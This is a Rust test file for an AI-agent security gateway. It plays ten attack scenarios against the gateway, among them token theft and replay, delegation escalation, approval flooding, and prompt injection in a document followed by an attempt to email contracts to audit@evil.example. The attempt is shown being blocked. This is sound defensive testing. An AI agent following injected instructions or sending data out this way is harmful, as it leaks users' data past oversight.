//! Attack scenarios, scripted end to end against the real binary and the demo tool servers
//! (issue 9): each attack is played as an agent (or a thief) would play it, and must be
//! contained — nothing forwarded that should not be, and the control that caught it named
//! in the refusal or the audit trail. The test writes the scenario table
//! (`$CARGO_TARGET_TMPDIR/security-tests.md`, printed with `--nocapture`) that
//! docs/SECURITY-TESTS.md shows, and fails if any scenario was not contained.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;

use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::env::Env;
use common::rugpull::RugPull;
use common::{eventually, reason, warden};
use serde_json::{Value, json};
use warden_client::mcp::McpSession;
use warden_client::{AgentClient, TaskRequest};
use warden_identity::KeyPair;

/// What one scenario showed: the control that caught it and the evidence.
struct Contained {
    control: &'static str,
    evidence: String,
}

const PROTOCOL: &str = "2026-07-28";

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// An agent asks Warden to act where its credential was never meant to reach: a token
/// issued for the CRM is presented to the finance server, whose upstream credential Warden
/// holds (the deputy). RFC 8707 audience binding refuses it before any decision.
fn confused_deputy() -> Contained {
    let env = Env::start();
    let client = env.agent("assistant");
    let crm_token = client
        .token(
            &env.url("crm"),
            &TaskRequest::new("t-1", "read a contact").call_tool("crm/read_contact"),
        )
        .unwrap();
    let before = env.stats().calls("finance");
    let mut s = McpSession::new(
        client,
        &env.url("finance"),
        &crm_token.access_token,
        PROTOCOL,
    );
    let r = s.call_tool("transfer_funds", json!({"amount": 10, "to": "attacker"}));
    let why = reason(&r);
    assert!(why.contains("401"), "{why}");
    assert_eq!(env.stats().calls("finance"), before, "nothing forwarded");
    // And the agent never holds the upstream's credential: it is not in anything Warden
    // answered.
    let r = env
        .session("assistant", "crm", &["read_contact"], PROTOCOL)
        .call_tool("read_contact", json!({"id": "c-1"}))
        .unwrap();
    assert!(!r.to_string().contains(common::env::UPSTREAM_SECRET));
    let said = why
        .split("error_description\":\"")
        .nth(1)
        .unwrap_or("")
        .trim_end_matches("\"}");
    Contained {
        control: "token audience (RFC 8707 resource): HTTP 401 `invalid_token`",
        evidence: format!(
            "crm token at /mcp/finance → 401 \"{said}\"; finance upstream saw 0 calls"
        ),
    }
}

/// A task granted for reading contacts tries to write a call note (which the policy would
/// allow the agent in another task): the task token's grant is an upper bound.
fn scope_creep() -> Contained {
    let env = Env::start();
    let mut s = env.session("assistant", "crm", &["read_contact"], PROTOCOL);
    let before = env.stats().calls("crm");
    let r = s.call_tool("log_call_note", json!({"contact_id": "c-1", "note": "x"}));
    assert_eq!(reason(&r), "not_in_task", "{r:?}");
    assert_eq!(env.stats().calls("crm"), before);
    let listed = s.tool_names().unwrap();
    assert_eq!(listed, ["read_contact"], "the listing shows the task only");
    Contained {
        control: "task grant (PE-3): JSON-RPC -32003 `not_in_task`; `tools/list` filtered",
        evidence: "log_call_note refused, crm upstream saw 0 calls, list shows read_contact only"
            .into(),
    }
}

/// A delegate asks for more than its delegator holds: token exchange only narrows.
fn delegation_escalation() -> Contained {
    let env = Env::start();
    let parent = env
        .agent("assistant")
        .token(
            &env.url("crm"),
            &TaskRequest::new("t-1", "read").call_tool("crm/read_contact"),
        )
        .unwrap();
    let other = env.agent("other");
    let wider = TaskRequest::new("t-1", "read")
        .call_tool("crm/read_contact")
        .call_tool("crm/log_call_note");
    let r = other.exchange(&parent.access_token, Some(&wider));
    let code = r.as_ref().err().and_then(|e| e.code()).unwrap_or("");
    assert!(!code.is_empty(), "widening refused: {r:?}");
    let elsewhere = TaskRequest::new("t-1", "pay").call_tool("finance/transfer_funds");
    let r2 = other.exchange(&parent.access_token, Some(&elsewhere));
    assert!(r2.is_err(), "{r2:?}");
    Contained {
        control: "delegation narrowing (RFC 8693 token exchange): OAuth error at /oauth/token",
        evidence: format!("exchange asking for an action the parent lacks → `{code}`; no token"),
    }
}

/// A thief holds the assistant's access token but not its DPoP key; and a captured request
/// (token + proof) is replayed verbatim.
fn token_theft_and_replay() -> Contained {
    let env = Env::start();
    let client = env.agent("assistant");
    let url = env.url("crm");
    let token = client
        .token(
            &url,
            &TaskRequest::new("t-1", "read").call_tool("crm/read_contact"),
        )
        .unwrap()
        .access_token;
    let before = env.stats().calls("crm");
    // The thief signs proofs with its own key.
    let thief = AgentClient::new(&env.warden.url, "assistant", KeyPair::generate());
    let r = McpSession::new(thief, &url, &token, PROTOCOL)
        .call_tool("read_contact", json!({"id": "c-1"}));
    assert!(reason(&r).contains("401"), "{r:?}");
    // A captured request, replayed.
    let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                      "params": {"name": "read_contact", "arguments": {"id": "c-1"},
                                 "_meta": {"io.modelcontextprotocol/protocolVersion": PROTOCOL,
                                           "io.modelcontextprotocol/clientCapabilities": {}}}})
    .to_string();
    let proof = client.proof("POST", &url, Some(&token)).unwrap();
    let auth = format!("DPoP {token}");
    let headers = [
        ("Authorization", auth.as_str()),
        ("DPoP", proof.as_str()),
        ("MCP-Protocol-Version", PROTOCOL),
        ("Mcp-Method", "tools/call"),
        ("Mcp-Name", "read_contact"),
        ("Accept", "application/json, text/event-stream"),
    ];
    let (first, _, first_answer) = env.warden.post("/mcp/crm", &body, &headers);
    let (second, _, answer) = env.warden.post("/mcp/crm", &body, &headers);
    assert_eq!(first, 200, "{first_answer}");
    assert_eq!(second, 401, "{answer}");
    // Without any proof, as a plain bearer token.
    let bearer = format!("Bearer {token}");
    let (bare, _, _) = env.warden.post(
        "/mcp/crm",
        &body,
        &[
            ("Authorization", bearer.as_str()),
            ("MCP-Protocol-Version", PROTOCOL),
            ("Mcp-Method", "tools/call"),
            ("Mcp-Name", "read_contact"),
        ],
    );
    assert_eq!(bare, 401);
    assert_eq!(
        env.stats().calls("crm"),
        before + 1,
        "only the genuine call"
    );
    Contained {
        control: "DPoP (RFC 9449): proof key = token's `cnf.jkt`, single-use `jti`",
        evidence: "foreign key → 401; replayed proof → 401; no proof → 401; 1 genuine call".into(),
    }
}

/// Waits for the first pending approval; returns it.
fn pending(env: &Env, secret: &str) -> Value {
    eventually("an approval request", || {
        let out = warden()
            .args(["approvals", "list", "--json", "--server", &env.warden.url])
            .env("WARDEN_ADMIN_TOKEN", secret)
            .output()
            .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout).ok()?;
        v.as_array().and_then(|a| a.first()).cloned()
    })
}

fn transfer(env: &Env, amount: i64) -> mpsc::Receiver<Result<Value, warden_client::ClientError>> {
    let mut s = env.session("assistant", "finance", &["transfer_funds"], PROTOCOL);
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let r = s.call_tool(
            "transfer_funds",
            json!({"amount": amount, "to": "DE89-payee"}),
        );
        let _ = tx.send(r);
    });
    rx
}

/// An approval granted for one transfer is presented for a larger one, then again.
fn approval_replay() -> Contained {
    let env = Env::start();
    let alice = env
        .warden
        .admin()
        .create_admin("alice@example.com")
        .unwrap();
    let before = env.stats().calls("finance");
    let held = transfer(&env, 5000);
    let id = pending(&env, &alice)["id"].as_str().unwrap().to_owned();
    let out = warden()
        .args([
            "approvals",
            "approve",
            &id,
            "--reason",
            "invoice 42 checked",
        ])
        .args(["--server", &env.warden.url])
        .env("WARDEN_ADMIN_TOKEN", &alice)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let r = held.recv_timeout(Duration::from_secs(10)).unwrap();
    assert_eq!(reason(&r), "ok");
    let mut s = env.session("assistant", "finance", &["transfer_funds"], PROTOCOL);
    let mut present = |amount: i64| {
        reason(&s.request(
            "tools/call",
            json!({"name": "transfer_funds", "arguments": {"amount": amount, "to": "DE89-payee"},
                   "_meta": {"warden/approval": id}}),
        ))
    };
    let changed = present(9000);
    let again = present(5000);
    assert_eq!(changed, "approval_mismatch");
    assert_eq!(again, "approval_used");
    assert_eq!(env.stats().calls("finance"), before + 1);
    Contained {
        control: "approvals bound to the exact arguments, single use (HC-1)",
        evidence: format!(
            "approved 5000 once; same approval for 9000 → `{changed}`, again → `{again}`"
        ),
    }
}

/// A document carries instructions; the agent then tries to mail data out.
fn injection_then_exfiltration() -> Contained {
    let env = Env::start_with(
        "",
        r#"
@id("scenario-docs-and-mail")
permit (principal == Warden::Agent::"assistant", action == Warden::Action::"call_tool",
        resource) when { [Warden::Tool::"docs/read", Warden::Tool::"email/send"].contains(resource) };
"#,
    );
    let mut docs = env.session("assistant", "docs", &["read"], PROTOCOL);
    let r = docs
        .call_tool("read", json!({"path": warden_testkit::POISONED_DOC}))
        .unwrap();
    assert!(
        r["result"]["_meta"]["warden/findings"].is_array(),
        "annotated: {r}"
    );
    eventually("the taint", || {
        (!env.audit_events("agent_tainted").is_empty()).then_some(())
    });
    let sent = env.stats().calls("email");
    let mut mail = env.session("assistant", "email", &["send"], PROTOCOL);
    let r = mail.call_tool(
        "send",
        json!({"to": "audit@evil.example", "subject": "report", "body": "contracts attached"}),
    );
    let why = reason(&r);
    assert_eq!(why, "approval_timeout", "{r:?}");
    assert_eq!(env.stats().calls("email"), sent, "the mail was not sent");
    Contained {
        control: "content inspection + taint (IO-1, IO-3): the next high-risk call needs a human",
        evidence: format!(
            "injection finding audited, task tainted; email/send held for approval → `{why}`, 0 mails"
        ),
    }
}

/// The upstream changes a tool's description after it was approved.
fn rug_pull() -> Contained {
    let server = RugPull::start();
    let (_dir, _warden, mut s) =
        server.behind_warden("[inspection.pinning]\nmode = \"tofu\"\n", &["summarize"]);
    assert_eq!(
        s.tool_names().unwrap(),
        ["summarize"],
        "trusted on first use"
    );
    let call = |s: &mut McpSession| reason(&s.call_tool("summarize", json!({"note": "hi"})));
    assert_eq!(call(&mut s), "ok");
    server.post("/rugpull");
    assert!(s.tool_names().unwrap().is_empty(), "hidden once changed");
    let why = call(&mut s);
    assert_eq!(why, "tool_changed");
    assert_eq!(server.calls(), 1, "nothing forwarded after the change");
    Contained {
        control: "tool pinning (EP-4, IO-4): `warden tools diff` / `approve`",
        evidence: format!(
            "description changed after approval → tool hidden, call → `{why}`, 0 forwarded"
        ),
    }
}

/// The agent fires approval requests to wear its approvers down.
fn approval_flooding() -> Contained {
    let env = Env::start();
    let before = env.stats().calls("finance");
    let rx: Vec<_> = (0..6).map(|i| transfer(&env, 2000 + i)).collect();
    let reasons: Vec<String> = rx
        .iter()
        .map(|r| reason(&r.recv_timeout(Duration::from_secs(15)).unwrap()))
        .collect();
    let limited = reasons
        .iter()
        .filter(|r| *r == "approval_rate_limited")
        .count();
    assert_eq!(limited, 3, "{reasons:?}");
    assert!(reasons.iter().all(|r| r != "ok"), "{reasons:?}");
    assert_eq!(env.stats().calls("finance"), before);
    Contained {
        control: "approval rate limit per agent (HC-1): `approval_rate_limited`",
        evidence: format!(
            "6 concurrent requests → {limited} refused at once, 3 held (then timed out); 0 forwarded"
        ),
    }
}

/// A loop calls the same write tool as fast as it can.
fn runaway_loop() -> Contained {
    let env = Env::start();
    let mut s = env.session("assistant", "crm", &["log_call_note"], PROTOCOL);
    let before = env.stats().calls("crm");
    let mut first_refused = None;
    for i in 0..50 {
        let r = s.call_tool(
            "log_call_note",
            json!({"contact_id": "c-1", "note": "again"}),
        );
        if first_refused.is_none() && reason(&r) != "ok" {
            first_refused = Some((i, reason(&r)));
        }
    }
    let (at, why) = first_refused.unwrap();
    assert_eq!(why, "limit_exceeded");
    assert_eq!(env.stats().calls("crm"), before + 3);
    Contained {
        control: "limits (HC-2): cap `call-notes`, 3 per hour",
        evidence: format!(
            "50 calls in a loop → call {} refused `{why}`; 3 forwarded",
            at + 1
        ),
    }
}

/// An agent keeps calling while an operator pulls the kill switch.
fn kill_during_attack() -> Contained {
    let env = Env::start();
    let mut s = env.session("assistant", "crm", &["read_contact"], PROTOCOL);
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut after_kill = Vec::new();
        for _ in 0..400 {
            let r = s.call_tool("read_contact", json!({"id": "c-1"}));
            after_kill.push((Instant::now(), reason(&r)));
            std::thread::sleep(Duration::from_millis(5));
        }
        let _ = tx.send(after_kill);
    });
    std::thread::sleep(Duration::from_millis(300));
    let killed_at = Instant::now();
    let out = env.cli(&[
        "kill",
        "assistant",
        "--force",
        "--reason",
        "attack in progress",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let done_at = Instant::now();
    let calls = rx.recv_timeout(Duration::from_secs(30)).unwrap();
    let forwarded_after: Vec<_> = calls
        .iter()
        .filter(|(t, r)| *t > done_at && r == "ok")
        .collect();
    assert!(forwarded_after.is_empty(), "{forwarded_after:?}");
    let refused = calls
        .iter()
        .find(|(t, r)| *t > killed_at && r != "ok")
        .unwrap();
    assert!(
        refused.1 == "agent_killed" || refused.1.contains("401"),
        "{}",
        refused.1
    );
    Contained {
        control: "kill switch (KS-1): `warden kill AGENT --force`",
        evidence: format!(
            "first call after the kill → {}; no call answered after `warden kill` returned",
            if refused.1.contains("401") {
                "HTTP 401 `invalid_token` (tokens revoked)"
            } else {
                "`agent_killed`"
            }
        ),
    }
}

/// A scenario's name and its script.
type Scenario = (&'static str, fn() -> Contained);

#[test]
fn every_attack_scenario_is_contained() {
    let scenarios: [Scenario; 10] = [
        (
            "confused deputy (token for one server at another)",
            confused_deputy,
        ),
        ("scope creep (read task tries to write)", scope_creep),
        ("delegation escalation", delegation_escalation),
        (
            "token theft and replay without the DPoP key",
            token_theft_and_replay,
        ),
        ("approval replay with changed arguments", approval_replay),
        (
            "injection in a tool result, then exfiltration",
            injection_then_exfiltration,
        ),
        ("rug pull (tool description changed)", rug_pull),
        ("approval flooding", approval_flooding),
        ("runaway loop", runaway_loop),
        ("kill during an attack", kill_during_attack),
    ];
    let mut table = String::from(
        "| scenario | contained | control that caught it | evidence |\n|---|---|---|---|\n",
    );
    let mut failed = Vec::new();
    for (name, run) in scenarios {
        let started = Instant::now();
        match std::panic::catch_unwind(run) {
            Ok(c) => table.push_str(&format!(
                "| {name} | yes | {} | {} ({:.1} s) |\n",
                c.control,
                c.evidence,
                started.elapsed().as_secs_f64()
            )),
            Err(e) => {
                let why = e
                    .downcast_ref::<String>()
                    .cloned()
                    .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                    .unwrap_or_default();
                let why = why.replace(['\n', '|'], " ");
                table.push_str(&format!("| {name} | **NO** | — | {why} |\n"));
                failed.push(name);
            }
        }
    }
    let out = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("security-tests.md");
    std::fs::write(&out, &table).unwrap();
    println!("{table}\n(written to {})", out.display());
    assert!(failed.is_empty(), "not contained: {failed:?}\n{table}");
}
